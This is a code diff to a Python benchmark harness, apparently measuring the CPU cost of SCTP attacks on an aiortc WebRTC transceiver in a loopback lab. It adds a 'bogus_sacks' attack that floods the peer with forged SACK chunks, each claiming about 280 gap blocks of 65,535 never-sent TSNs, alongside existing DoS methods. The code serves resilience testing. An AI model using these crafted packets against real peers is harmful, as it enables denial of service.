@@ -8,7 +8,8 @@ transport, past its own sender, so it can do what a browser never does:
 - ``parked_messages``: in-order TSNs whose messages skip one stream sequence number, so each
   waits behind the missing one;
 - ``without_sacks``: never acknowledge the transceiver's DATA, while asking the echo backend
-  for large events.
+  for large events;
+- ``bogus_sacks``: SACKs whose gap blocks claim 65,535 TSNs each, none ever sent.
 
 ``python3 -m bench.sctp_attack`` runs a relay and a transceiver process, a victim caller
 (``EchoCaller``) and, in turn, no attack (the reference) and each attack for the same time,
@@ -36,6 +37,7 @@ from aiortc.rtcsctptransport import (
     SCTP_DATA_LAST_FRAG,
     WEBRTC_STRING,
     DataChunk,
+    SackChunk,
 )
 from google_crc32c import value as crc32c
 
@@ -43,6 +45,7 @@ from bench.harness.procfs import process_cpu_ns, rss_bytes
 from bench.peers import RelayProcess, TransceiverProcess, sessions_ended
 from bench.webrtc_client import EchoCaller, ToneTrack, loopback_only
 
+GAP_BLOCKS_PER_SACK = 280  # what fits one packet (4 bytes each)
 MAX_PACKET_BYTES = 1180  # an SCTP packet that fits one relay slot with DTLS around it
 BURST_PACKETS = 20  # packets sent back to back, then the loop yields (the victim shares it)
 BURST_PAUSE_S = 0.002
@@ -181,6 +184,29 @@ class SctpAttacker:
         self.chunks_sent += sent
         return sent
 
+    async def bogus_sacks(self, sacks: int, seconds: float = 10.0) -> int:
+        """SACKs of what it received, each claiming ~280 gap blocks of 65,535 TSNs never sent
+        (stock aiortc walks every TSN of every block)."""
+        sctp = self._sctp
+        sack = SackChunk()
+        sack.cumulative_tsn = sctp._last_received_tsn
+        sack.advertised_rwnd = 1 << 20
+        sack.gaps = [(1, 65535)] * GAP_BLOCKS_PER_SACK
+        sack.duplicates = []
+        packet = self._packet([bytes(sack)])
+        deadline = time.monotonic() + seconds
+        try:
+            for i in range(sacks):
+                await sctp.transport._send_data(packet)
+                self.chunks_sent += 1
+                if i % BURST_PACKETS == BURST_PACKETS - 1:
+                    await asyncio.sleep(BURST_PAUSE_S)
+                    if time.monotonic() > deadline:
+                        break
+        except ConnectionError:
+            self.hung_up = True
+        return self.chunks_sent
+
     async def close(self) -> None:
         await self.pc.close()
 
@@ -199,7 +225,7 @@ class Run:
     dropped: dict[str, float]  # its data-channel drops during the run, by reason
 
 
-ATTACKS = ("none", "skipped_tsn", "parked_messages", "without_sacks")
+ATTACKS = ("none", "skipped_tsn", "parked_messages", "without_sacks", "bogus_sacks")
 
 
 async def one_run(
@@ -224,6 +250,8 @@ async def one_run(
             await attacker.parked_messages(size, seconds=seconds)
         elif attack == "without_sacks":
             await attacker.without_sacks(size, seconds=seconds)
+        elif attack == "bogus_sacks":
+            await attacker.bogus_sacks(size, seconds=seconds)
         # The CPU of the attack: until the transceiver is back to the reference's rate (the same
         # two calls without an attack), less that rate for as long.
         await caught_up(pid, reference_cpu_ns_per_s, start + seconds + MAX_CATCH_UP_S)
@@ -316,6 +344,7 @@ def main() -> None:
     parser.add_argument("--chunks", type=int, default=6000, help="skipped_tsn's chunks")
     parser.add_argument("--messages", type=int, default=20000, help="parked_messages' messages")
     parser.add_argument("--events", type=int, default=1500, help="without_sacks' 15 KB events")
+    parser.add_argument("--sacks", type=int, default=200, help="bogus_sacks' SACKs")
     parser.add_argument("--json", action="store_true", help="one JSON line per run")
     args = parser.parse_args()
     attacks = [a for a in args.attacks.split(",") if a]
@@ -327,6 +356,7 @@ def main() -> None:
         "skipped_tsn": args.chunks,
         "parked_messages": args.messages,
         "without_sacks": args.events,
+        "bogus_sacks": args.sacks,
     }
     runs = asyncio.run(
         asyncio.wait_for(run_all(attacks, sizes, args.seconds), 120 + 20 * args.seconds)
